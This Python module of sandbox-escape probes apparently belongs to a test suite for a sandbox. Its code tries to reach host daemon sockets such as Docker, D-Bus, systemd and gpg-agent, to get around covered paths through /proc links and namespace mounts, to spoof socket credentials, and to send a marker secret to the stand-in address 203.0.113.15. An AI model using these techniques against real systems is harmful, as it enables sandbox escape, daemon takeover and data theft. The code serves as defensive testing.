"""Unix sockets: whoever can reach a daemon outside has it do the work."""

# The system calls that an attacker would make:
# ruff: noqa: PTH104, PTH108, PTH119, PTH211

from __future__ import annotations

import ctypes
import os
import socket
import struct
from contextlib import suppress
from pathlib import Path
from typing import Any

from attacks.base import DONE, LIBC, PATIENCE_S, SECRET, failure, in_a_place, in_child, told

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x20000
KINDS = {"stream": socket.SOCK_STREAM, "datagram": socket.SOCK_DGRAM, "seqpacket": socket.SOCK_SEQPACKET}


def reach(path: str, kind: int) -> str:
    """Connect, say something."""
    with socket.socket(socket.AF_UNIX, kind) as opened:
        opened.settimeout(PATIENCE_S)
        opened.connect(path.encode().replace(b"@", b"\0", 1) if path.startswith("@") else path)
        opened.send(SECRET)
        return DONE


def reach_all(paths: list[str]) -> dict[str, str]:
    """Every path by every kind of socket; "@" begins an abstract name."""
    return {f"{path} {name}": told(reach, path, kind) for path in paths for name, kind in KINDS.items()}


def sendto(path: str) -> str:
    """Without connect(2)."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as opened:
        name = path.encode().replace(b"@", b"\0", 1) if path.startswith("@") else path
        return told(opened.sendto, SECRET, name)


def roundabout(path: str) -> dict[str, str]:
    """The same socket by names that lead around what covers it."""
    directory, name = os.path.split(path)
    ways: dict[str, str] = {
        "/proc/self/root": f"/proc/self/root{path}",
        "/proc/1/root": f"/proc/1/root{path}",
        "/proc/1/cwd": f"/proc/1/cwd{path}",
        "/proc/self/task": f"/proc/self/task/{os.getpid()}/root{path}",
        "dots": f"{directory}/../{os.path.basename(directory)}/{name}",
        "slashes": path.replace("/", "//"),
        "/proc/thread-self": f"/proc/thread-self/root{path}",
    }
    found = {how: told(reach, where, socket.SOCK_STREAM) for how, where in ways.items()}
    place = f"{path}.{os.getpid()}."
    steps = {
        "link": lambda: os.link(path, place),
        "symlink": lambda: os.symlink(path, place + "s"),
        "rename": lambda: os.rename(path, place + "r"),
        "unlink": lambda: os.unlink(path),
    }
    for how, step in steps.items():
        outcome = told(step)
        found[how] = (
            outcome
            if outcome != DONE or how == "unlink"
            else _reach_and_remove(place + {"symlink": "s", "rename": "r"}.get(how, ""))
        )
    descriptor = None
    with suppress(OSError):
        descriptor = os.open(path, os.O_PATH)
        found["O_PATH"] = told(reach, f"/proc/self/fd/{descriptor}", socket.SOCK_STREAM)
    if descriptor is not None:
        os.close(descriptor)
    found["relative"] = in_child(lambda: _relative(directory, name))
    return found


def _relative(directory: str, name: str) -> str:
    os.chdir(directory)
    return told(reach, name, socket.SOCK_STREAM)


def _reach_and_remove(place: str) -> str:
    try:
        return told(reach, place, socket.SOCK_STREAM)
    finally:
        with suppress(OSError):
            os.unlink(place)


def rooted(path: str) -> dict[str, str]:
    """As root of a user namespace of its own: mounts that would uncover what is covered."""
    return in_a_place(lambda place: _rooted(path, place))  # type: ignore[no-any-return]


def become_root(*more: int) -> str:
    """A user namespace with uid 0 in it, and a mount namespace where one can be had."""
    uid, gid = os.getuid(), os.getgid()
    if LIBC.unshare(CLONE_NEWUSER | sum(more)) != 0:
        return failure()
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
    Path("/proc/self/gid_map").write_text(f"0 {gid} 1")
    LIBC.unshare(CLONE_NEWNS)
    return DONE


def mount(source: str | None, target: str, kind: str | None, flags: int, options: str | None = None) -> None:
    """mount(2)."""
    words = [each_word.encode() if each_word is not None else None for each_word in (source, target, kind)]
    if LIBC.mount(*words, ctypes.c_ulong(flags), options.encode() if options is not None else None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def umount(target: str, flags: int = 2) -> None:
    if LIBC.umount2(target.encode(), flags) != 0:
        raise OSError(ctypes.get_errno(), "umount")


def _rooted(path: str, place: str) -> dict[str, str]:
    begun = become_root()
    if begun != DONE:
        return {"user namespace": begun}
    directory, name = os.path.split(path)
    found = {"tmpfs": told(mount, "tmpfs", place, "tmpfs", 0)}
    for made in ("a", "b", "work", "upper", "merged"):
        Path(place, made).mkdir(exist_ok=True)
    top = "/" + directory.split("/")[1]
    steps: dict[str, Any] = {
        "umount it": lambda: umount(path),
        "umount directory": lambda: umount(directory),
        "umount /run": lambda: umount("/run"),
        "bind directory": lambda: mount(directory, f"{place}/a", None, 4096),
        "bind top": lambda: mount(top, f"{place}/a", None, 4096),
        "bind root": lambda: mount("/", f"{place}/a", None, 4096),
        "rbind root": lambda: mount("/", f"{place}/b", None, 4096 | 16384),
        "overlay directory": lambda: _overlay(directory, place),
        "overlay top": lambda: _overlay(top, place),
        "overlay root": lambda: _overlay("/", place),
        "move": lambda: mount(directory, f"{place}/a", None, 8192),
        "proc": lambda: mount("proc", f"{place}/a", "proc", 0),
        "sysfs": lambda: mount("sysfs", f"{place}/a", "sysfs", 0),
    }
    for how, step in steps.items():
        outcome = told(step)
        found[how] = outcome
        if outcome != DONE:
            continue
        for candidate in (
            path,
            f"{place}/a/{name}",
            f"{place}/a{path}",
            f"{place}/b{path}",
            f"{place}/merged/{name}",
            f"{place}/merged{path}",
            f"{place}/a{path.removeprefix(top)}",
            f"{place}/merged{path.removeprefix(top)}",
        ):
            if told(reach, candidate, socket.SOCK_STREAM) == DONE:
                found[how] = f"reached by {candidate}"
        for left in ("a", "merged"):
            with suppress(OSError):
                umount(f"{place}/{left}")
    return found


def _overlay(lower: str, place: str) -> None:
    mount("overlay", f"{place}/merged", "overlay", 0, f"lowerdir={lower},upperdir={place}/upper,workdir={place}/work")


# --- descriptors


def receive_on_stdin() -> Any:
    """Whatever descriptor comes over the standard input."""
    with socket.socket(fileno=os.dup(0)) as stdin:
        _, descriptors, _, _ = socket.recv_fds(stdin, 1, 4)
        return descriptors


def credentials() -> dict[str, str]:
    """Claims to be another process, to whoever receives: SCM_CREDENTIALS."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    with ours, theirs:
        theirs.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        claims = {
            "root": (os.getpid(), 0, 0),
            "another pid": (1, os.getuid(), os.getgid()),
            "true": (os.getpid(), os.getuid(), os.getgid()),
        }
        return {
            name: told(ours.sendmsg, [b"x"], [(socket.SOL_SOCKET, 2, struct.pack("=iII", *claim))])
            for name, claim in claims.items()
        }


def own_pair() -> str:
    """A descriptor handed from one process of the sandbox to another: still a socket of the sandbox."""
    ours, theirs = socket.socketpair()
    with ours, theirs:
        pid = os.fork()
        if pid == 0:
            with socket.socket() as made:
                socket.send_fds(theirs, [b"x"], [made.fileno()])
            os._exit(0)
        os.waitpid(pid, 0)
        _, (given,), _, _ = socket.recv_fds(ours, 1, 1)
    with socket.socket(fileno=given) as received:
        received.settimeout(90)
        outcome = told(received.connect, ("203.0.113.15", 7))
        return f"{outcome} {told(received.send, SECRET)}"


def listed() -> list[str]:
    """Unix sockets that this network namespace knows by name."""
    lines = Path("/proc/net/unix").read_text(errors="replace").splitlines()[1:]
    return [line.split()[-1] for line in lines if len(line.split()) > 7]


def known_places() -> dict[str, str]:
    """The daemons that are worth asking."""
    uid = os.getuid()
    names = [
        "/run/docker.sock",
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        f"/run/user/{uid}/bus",
        f"/run/user/{uid}/systemd/private",
        f"/run/user/{uid}/podman/podman.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
        "/run/systemd/notify",
        "/run/systemd/journal/socket",
        "/run/systemd/journal/stdout",
        "/dev/log",
        "/run/systemd/resolve/io.systemd.Resolve",
        "/run/systemd/userdb/io.systemd.DynamicUser",
        "/run/libvirt/libvirt-sock",
        "/run/snapd.socket",
        "/run/lxd.socket",
        "/run/udev/control",
        "/run/nscd/socket",
        "/run/avahi-daemon/socket",
        "/run/cups/cups.sock",
        "/tmp/.X11-unix/X0",
        f"/run/user/{uid}/wayland-0",
        f"/run/user/{uid}/gnupg/S.gpg-agent",
        f"/run/user/{uid}/keyring/ssh",
        f"/tmp/tmux-{uid}/default",
        "/run/screen/S-nobody",
        "/run/uuidd/request",
        "/run/acpid.socket",
        "/run/postgresql/.s.PGSQL.5432",
        "/var/lib/lxd/unix.socket",
        "/run/crio/crio.sock",
        "/run/pcscd/pcscd.comm",
        "/run/rpcbind.sock",
        "/run/nono-ebpf",
    ]
    return {name: told(reach, name, socket.SOCK_STREAM) for name in names}
